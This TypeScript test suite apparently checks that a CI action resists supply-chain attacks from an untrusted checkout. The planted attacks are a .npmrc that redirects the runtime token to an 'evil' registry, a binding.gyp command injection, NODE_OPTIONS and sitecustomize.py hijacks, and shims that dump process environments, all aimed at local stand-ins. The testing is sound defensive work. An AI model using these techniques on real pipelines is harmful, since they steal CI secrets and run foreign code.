import { spawnSync } from 'node:child_process'
import { copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { basename, delimiter, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, type TestContext } from 'vitest'
import { root } from '../support/architecture.ts'
import { kernelsFile } from '../../src/engines/cpu/install/recipe.ts'
import { platform } from '../engines/tensorflow/install/tiny.ts'
import { plantEngine } from '../support/planted-engine.ts'
import { node24, runStep, type StepResult } from '../support/runner.ts'
import { wineSpec } from '../support/specs.ts'
import { cpuFolder, missingCpu } from '../support/tf-cpu.ts'
import { needs } from '../support/tools.ts'

beforeEach((context) => {
  if (platform === null) context.skip('no native engine for this machine')
})

interface Registry {
  readonly url: string
  readonly requests: { readonly path: string; readonly authorization: string | undefined }[]
  close(): Promise<void>
}

/** A registry that has nothing, and remembers who asked. */
async function startRegistry(): Promise<Registry> {
  const requests: Registry['requests'] = []
  const server = createServer(({ url, headers }, response) => {
    requests.push({ path: url ?? '', authorization: headers.authorization })
    response.writeHead(404).end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    requests,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

interface Place {
  readonly folder: string
  readonly workspace: string
  readonly tools: string
  readonly temp: string
  readonly empty: string
}

function machine(): Place {
  const folder = mkdtempSync(join(tmpdir(), 'runner-'))
  const place = {
    folder,
    workspace: join(folder, 'checkout'),
    tools: join(folder, 'tools'),
    temp: join(folder, 'temp'),
    empty: join(folder, 'empty'),
  }
  for (const path of [place.workspace, place.tools, place.temp, place.empty]) mkdirSync(path)
  copyFileSync(join(root, 'examples/wine/wine.csv'), join(place.workspace, 'wine.csv'))
  writeFileSync(join(place.workspace, 'tuning.yml'), wineSpec({ epochs: 5 }))
  return place
}

/** A step of the bundled action on a machine without npm, pip and compiler. */
const step = (
  { workspace, tools, temp, empty }: Place,
  env: Readonly<Record<string, string>> = {},
  engine = 'tensorflow',
): Promise<StepResult> =>
  runStep({
    script: join(root, 'dist/action/index.js'),
    workspace,
    with: { engine, workers: '1', artifact: 'false' },
    env: { PATH: empty, RUNNER_TOOL_CACHE: tools, RUNNER_TEMP: temp, ACTIONS_RUNTIME_TOKEN: 'runtime-secret', ...env },
  })

describe('attack 13: an engine that somebody planted', () => {
  it('in the tool cache is never run, though its record fits', async () => {
    const here = machine()
    const { seen } = await plantEngine(join(here.tools, 'tunegate-engine'), join(here.folder, 'dump'))
    const done = await step(here)
    expect(seen()).toBeNull()
    expect(done.log).toContain('is not used: ')
    expect(done.exitCode).toBe(1)
  })

  it('in the folder that TUNEGATE_ENGINE_DIR names is never run', async () => {
    const here = machine()
    const { seen } = await plantEngine(join(here.folder, 'mine'), join(here.folder, 'dump'))
    const done = await step(here, { TUNEGATE_ENGINE_DIR: join(here.folder, 'mine') })
    expect(seen()).toBeNull()
    expect(done.exitCode).toBe(1)
  })
})

describe('attack 13: kernels that somebody planted', () => {
  it('are never run, wherever the runner has them: each step compiles its own', async ({ skip }) => {
    if (cpuFolder === null) return skip(missingCpu)
    const here = machine()
    const mine = join(here.folder, 'mine')
    // Nothing that is compiled is the same as what lies there: these are no kernels at all.
    const planted = [join(here.tools, 'tunegate-engine'), join(here.temp, 'tunegate-engine'), mine].map((folder) => {
      const engine = join(folder, basename(cpuFolder as string))
      cpSync(cpuFolder as string, engine, { recursive: true })
      const kernels = join(engine, kernelsFile)
      writeFileSync(kernels, Buffer.alloc(statSync(kernels).size))
      return kernels
    })
    for (const env of [{}, { TUNEGATE_ENGINE_DIR: mine }]) {
      const done = await step(here, { PATH: process.env['PATH'] ?? '', ...env }, 'cpu')
      expect(done.log).toContain('The cpu engine was compiled.')
      expect(done.log).toContain('cpu 2')
      expect([0, 1]).toContain(done.exitCode)
    }
    for (const file of planted) expect(readFileSync(file).every((byte) => byte === 0)).toBe(true)
  })

  it('have no say where there is no compiler', async ({ skip }) => {
    if (cpuFolder === null) return skip(missingCpu)
    const here = machine()
    cpSync(cpuFolder, join(here.tools, 'tunegate-engine', basename(cpuFolder)), { recursive: true })
    const done = await step(here, {}, 'cpu')
    expect(done.exitCode).toBe(1)
    expect(done.log).toContain('no C++ compiler was found')
  })
})

describe('attack 13: an install in a checkout that a stranger wrote', () => {
  let registry: Registry
  let evil: Registry
  beforeEach(async () => {
    ;[registry, evil] = [await startRegistry(), await startRegistry()]
  })
  afterEach(async () => {
    await Promise.all([registry.close(), evil.close()])
  })

  /** Programs of this machine; npm and pip ask registries on this machine, which have nothing. */
  const install = (here: Place, env: Readonly<Record<string, string>> = {}): Promise<StepResult> => {
    const home = join(here.folder, 'home')
    mkdirSync(home)
    writeFileSync(join(home, '.npmrc'), `registry=${registry.url}npm/\nfetch-retries=0\n`)
    return step(here, { PATH: process.env['PATH'] ?? '', HOME: home, PIP_INDEX_URL: `${registry.url}pip/`, ...env })
  }
  const requires = (context: TestContext): void => {
    for (const name of ['c++', 'npm', 'python3']) needs(context, name)
  }

  it('asks no registry of its .npmrc, sends it no token, and runs no pip.py of it', async (context) => {
    requires(context)
    const here = machine()
    writeFileSync(
      join(here.workspace, '.npmrc'),
      `registry=${evil.url}\n//${new URL(evil.url).host}/:_authToken=\${ACTIONS_RUNTIME_TOKEN}\n`,
    )
    writeFileSync(join(here.workspace, 'package.json'), '{}')
    writeFileSync(
      join(here.workspace, 'binding.gyp'),
      "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(touch ran)'] }] }",
    )
    writeFileSync(join(here.workspace, 'pip.py'), `open(${JSON.stringify(join(here.folder, 'ran'))}, 'w')\n`)
    const done = await install(here)
    expect(done.exitCode).toBe(1)
    expect(registry.requests.some(({ path }) => path.startsWith('/npm/'))).toBe(true)
    expect(registry.requests.some(({ path }) => path.startsWith('/pip/'))).toBe(true)
    expect(evil.requests).toEqual([])
    expect([existsSync(join(here.folder, 'ran')), existsSync(join(here.workspace, 'ran'))]).toEqual([false, false])
  })

  it('runs no program of it, though variables of the job name them', async (context) => {
    requires(context)
    const here = machine()
    const [bin, ran] = [join(here.workspace, 'node_modules/.bin'), join(here.folder, 'ran')]
    mkdirSync(bin, { recursive: true })
    for (const name of ['c++', 'g++', 'npm', 'python3', 'python', 'pip3', 'pip', 'cc.sh']) {
      writeFileSync(join(bin, name), `#!/bin/sh\necho ${name} >>'${ran}'\n`, { mode: 0o755 })
    }
    writeFileSync(join(here.workspace, 'evil.npmrc'), `registry=${evil.url}\n`)
    writeFileSync(join(here.workspace, 'sitecustomize.py'), `open(${JSON.stringify(ran)}, 'a').write('sitecustomize')\n`)
    // Node obeys it in the step itself, so it tells the one from the others.
    writeFileSync(
      join(here.workspace, 'evil.cjs'),
      `if (!process.argv[1]?.includes('action/index.js')) require('node:fs').appendFileSync(${JSON.stringify(ran)}, 'NODE_OPTIONS')\n`,
    )
    await install(here, {
      PATH: [bin, './node_modules/.bin', 'node_modules/.bin', '', process.env['PATH'] ?? ''].join(delimiter),
      CXX: './node_modules/.bin/cc.sh',
      CC: join(bin, 'cc.sh'),
      MAKEFLAGS: `CXX=${join(bin, 'cc.sh')}`,
      PYTHONPATH: here.workspace,
      NODE_OPTIONS: `--require=${join(here.workspace, 'evil.cjs')}`,
      npm_config_registry: `${registry.url}npm/`,
      npm_config_fetch_retries: '0',
      npm_config_userconfig: join(here.workspace, 'evil.npmrc'),
      npm_config_globalconfig: join(here.workspace, 'evil.npmrc'),
      npm_config_node_options: `--require=${join(here.workspace, 'evil.cjs')}`,
      npm_config_script_shell: join(bin, 'cc.sh'),
    })
    expect(registry.requests.length).toBeGreaterThan(1)
    expect(existsSync(ran) ? readFileSync(ran, 'utf8') : '').toBe('')
    expect(evil.requests).toEqual([])
  })

  it('shows the programs that install no token and no input of the step', async (context) => {
    requires(context)
    const here = machine()
    const tools = mkdtempSync(join(tmpdir(), 'bin-'))
    for (const name of ['c++', 'npm', 'python3']) {
      writeFileSync(
        join(tools, name),
        `#!/bin/sh\ntr '\\0' '\\n' </proc/$$/environ >>'${join(here.folder, 'seen')}'\nexec '${needs(context, name)}' "$@"\n`,
        { mode: 0o755 },
      )
    }
    await install(here, {
      PATH: [tools, process.env['PATH'] ?? ''].join(delimiter),
      NPM_TOKEN: 'npm-secret',
      AWS_SECRET_ACCESS_KEY: 'cloud-secret',
      INPUT_TOKEN: 'input-secret',
    })
    const seen = readFileSync(join(here.folder, 'seen'), 'utf8')
    expect(seen).toContain('PATH=')
    expect(seen).not.toMatch(/secret|INPUT_|GITHUB_|ACTIONS_/)
  })
})

it('attack 13: code of the same user sees the secrets of the step that starts it, so none that is not ours may run', async (context) => {
  if (process.platform !== 'linux') context.skip('there is no /proc here')
  const folder = mkdtempSync(join(tmpdir(), 'seen-'))
  const { folder: engine, seen } = await plantEngine(join(folder, 'engines'), join(folder, 'dump'))
  const script = `const { smokeTest } = await import(${JSON.stringify(join(root, 'src/engines/tensorflow/install/smoke-test.ts'))}); delete process.env.SECRET; await smokeTest(${JSON.stringify(engine)})`
  spawnSync(node24, ['--input-type=module', '-e', script], { env: { SECRET: 'deleted-by-then' } })
  expect(seen()?.own).toMatch(/^(TF_\w+=\d\0)+$/)
  expect(seen()?.parent).toContain('SECRET=deleted-by-then')
})
